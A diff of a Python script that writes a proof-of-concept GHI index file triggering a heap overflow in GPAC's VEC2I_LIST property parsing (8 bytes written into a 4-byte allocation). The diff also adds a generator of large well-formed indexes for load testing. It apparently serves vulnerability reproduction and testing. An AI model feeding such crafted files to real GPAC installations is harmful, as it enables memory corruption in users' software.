@@ -1,63 +1,100 @@
-import struct
+import argparse
+import sys
+import time
+from array import array
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from poclib import gpac_props as props
+from poclib.ghi import LAYOUT_PARSE, LAYOUT_SKIP, REP_FRAG_TFDT, REP_OFFSET, REP_SPLIT, GhiIndex, GhiRep, flags_for
 
-def be32(x): return struct.pack(">I", x & 0xFFFFFFFF)
-def be64(x): return struct.pack(">Q", x & 0xFFFFFFFFFFFFFFFF)
 
 def create_ghi_poc(filename="poc_ghi_vec2i_list_heap_overflow.ghi"):
-    out = bytearray()
-
-    # ---- GHID header ----
-    out += b"GHID"
-    out += be32(1)        # version
-    out += be32(1)        # segment_duration
-    out += be32(1)        # max_segment_duration
-    out += be64(0)        # media_presentation_duration
-    out += be64(0)        # period_duration
-    out += b"\x00"        # segment_template (empty utf8, null-terminated)
-    out += be32(1)        # nb_reps
-
-    # ---- rep block (must start with rep_size) ----
-    rep = bytearray()
-    rep += b"rep1\x00"        # rep_id
-    rep += b"source.mp4\x00"  # res_url
-    rep += be32(1)            # track_id
-    rep += be32(0)            # first_frag_start_offset
-    rep += be32(1000)         # pid_timescale
-    rep += be32(1000)         # mpd_timescale
-    rep += be32(0)            # bitrate
-    rep += be32(0)            # delay
-    rep += be32(1)            # sample_duration
-    rep += be32(0)            # first_cts_offset (u32 then cast to s32)
-    rep += be32(1)            # nb_segs  (sn=1 requires >=1)
-    rep += struct.pack("B", 1)# starts_with_sap
-    rep += struct.pack("B", 0)# rep_flags
-    rep += struct.pack(">H",0)# unused
-
-    # ---- props block: [props_size][props bytes...] ----
-    props = bytearray()
-    props += be32(0)          # p4cc==0 => dynamic property
-    props += b"v\x00"         # pname
-    props += be32(24)         # ptype == GF_PROP_VEC2I_LIST
-    props += be32(1)          # nb_items
-    props += be32(0xAAAAAAAA) # x
-    props += be32(0xBBBBBBBB) # y  (overflow write)
-    props += be32(0xFFFFFFFF) # end marker
-    props_size = 4 + len(props)
-    rep += be32(props_size)
-    rep += props
-
-    # ---- segment table: rep_flags=0 => 3x u32 per seg ----
-    rep += be32(0)  # first_tfdt
-    rep += be32(1)  # first_pck_seq (non-zero)
-    rep += be32(1)  # seg_duration
-
-    rep_size = 4 + len(rep)
-    out += be32(rep_size)
-    out += rep
-
-    with open(filename, "wb") as f:
-        f.write(out)
+    rep = GhiRep(
+        "rep1", "source.mp4",
+        track_id=1, first_frag_start_offset=0, pid_timescale=1000, mpd_timescale=1000,
+        bitrate=0, delay=0, sample_duration=1, first_cts_offset=0,
+        starts_with_sap=1,
+        # p4cc==0 => dynamic property "v" of type GF_PROP_VEC2I_LIST with one
+        # item: 4 bytes are allocated, x and y (8 bytes) are written
+        props=[("v", [(0xAAAAAAAA, 0xBBBBBBBB)], props.PROP_VEC2I_LIST)],
+        # rep_flags=0 => 3x u32 per seg; nb_segs=1 (sn=1 requires >=1)
+        flags=0, tfdt=[0], seq=[1], duration=[1],
+    )
+    GhiIndex([rep], segment_duration=1, max_segment_duration=1).write(filename)
     print("written:", filename)
 
+
+# one property of every type ghi_dmx_declare_opid_bin() decodes, except
+# VEC2I_LIST (the overflow above)
+ALL_TYPES_PROPS = [
+    ("p_sint", -5, props.PROP_SINT), ("p_uint", 7, props.PROP_UINT), ("p_lsint", -(1 << 40), props.PROP_LSINT),
+    ("p_luint", 1 << 40, props.PROP_LUINT), ("p_bool", True, props.PROP_BOOL),
+    ("p_frac", (30000, 1001), props.PROP_FRACTION), ("p_frac64", (1 << 33, 3), props.PROP_FRACTION64),
+    ("p_float", 1.5, props.PROP_FLOAT), ("p_double", 2.25, props.PROP_DOUBLE),
+    ("p_vec2i", (1, 2), props.PROP_VEC2I), ("p_vec2", (0.5, 0.25), props.PROP_VEC2),
+    ("p_vec3i", (1, 2, 3), props.PROP_VEC3I), ("p_vec4i", (1, 2, 3, 4), props.PROP_VEC4I),
+    ("p_string", "hello", props.PROP_STRING), ("p_name", "name", props.PROP_NAME),
+    ("p_data", b"\x00\x01\x02\x03", props.PROP_DATA),
+    ("p_strlist", ["a", "bc", "def"], props.PROP_STRING_LIST),
+    ("p_uintlist", array("I", range(16)), props.PROP_UINT_LIST),
+    ("p_sintlist", [-1, 0, 1], props.PROP_SINT_LIST),
+    ("p_4cclist", ["avc1", "mp4a"], props.PROP_4CC_LIST),
+    ("p_4cc", "hvc1", props.PROP_4CC),
+]
+
+
+def create_ghi_index(filename, reps=4, segs=1_000_000, flags=0, layout=LAYOUT_PARSE, seg_dur=1000,
+                     pck_per_seg=25, seg_size=65536, all_props=False):
+    """Large, well-formed index: `reps` representations of `segs` segments.
+    Columns are built once and shared by every rep; each rep is encoded
+    only when written."""
+    cols = {
+        "tfdt": array("Q", range(0, segs * seg_dur, seg_dur)),
+        "seq": array("Q", range(1, segs * pck_per_seg + 1, pck_per_seg)),
+        "duration": array("I", [seg_dur]) * segs,
+    }
+    if flags & REP_OFFSET:
+        cols["offset"] = array("Q", range(0, segs * seg_size, seg_size))
+    if flags & REP_FRAG_TFDT:
+        cols["frag_tfdt"] = cols["tfdt"]
+    if flags & REP_SPLIT:
+        cols["split_first"] = cols["split_last"] = array("I", bytes(4 * segs))
+    flags |= flags_for(cols)  # 64-bit fields where the values need them
+    out = []
+    for i in range(reps):
+        p = [(props.PID_ID, i + 1), (props.PID_STREAM_TYPE, props.STREAM_VISUAL), (props.PID_TIMESCALE, 1000),
+             (props.PID_WIDTH, 1920), (props.PID_HEIGHT, 1080)]
+        if all_props:
+            p += ALL_TYPES_PROPS
+        out.append(GhiRep(f"rep{i + 1}", f"source{i + 1}.mp4", track_id=i + 1, bitrate=1_000_000 * (i + 1),
+                          sample_duration=seg_dur // pck_per_seg, props=p, flags=flags, layout=layout, **cols))
+    index = GhiIndex(out, segment_duration=seg_dur, max_segment_duration=seg_dur,
+                     media_presentation_duration=segs * seg_dur, period_duration=segs * seg_dur,
+                     segment_template="$RepresentationID$/$Number$.m4s")
+    return index.write(filename)
+
+
+def main():
+    ap = argparse.ArgumentParser(description="GHI PoC (default) or large GHI indexes for load testing.")
+    ap.add_argument("--out", default=None)
+    ap.add_argument("--reps", type=int, default=0, help="write a large index with this many representations")
+    ap.add_argument("--segs", type=int, default=1_000_000, help="segments per representation")
+    ap.add_argument("--flags", type=lambda s: int(s, 0), default=0, help="rep_flags (e.g. 0x7f)")
+    ap.add_argument("--layout", choices=(LAYOUT_PARSE, LAYOUT_SKIP), default=LAYOUT_PARSE,
+                    help="segment record stride: as parsed, or as skipped by ghi_dmx_init_bin()")
+    ap.add_argument("--all-props", action="store_true", help="add one property of every decodable type")
+    args = ap.parse_args()
+
+    if not args.reps:
+        create_ghi_poc(*([args.out] if args.out else []))
+        return
+    out = args.out or "ghi_index.ghi"
+    t0 = time.perf_counter()
+    size = create_ghi_index(out, args.reps, args.segs, args.flags, args.layout, all_props=args.all_props)
+    dt = time.perf_counter() - t0
+    print(f"written: {out} ({size} bytes, {args.reps}x{args.segs} segments, {dt:.2f}s)")
+
+
 if __name__ == "__main__":
-    create_ghi_poc()
+    main()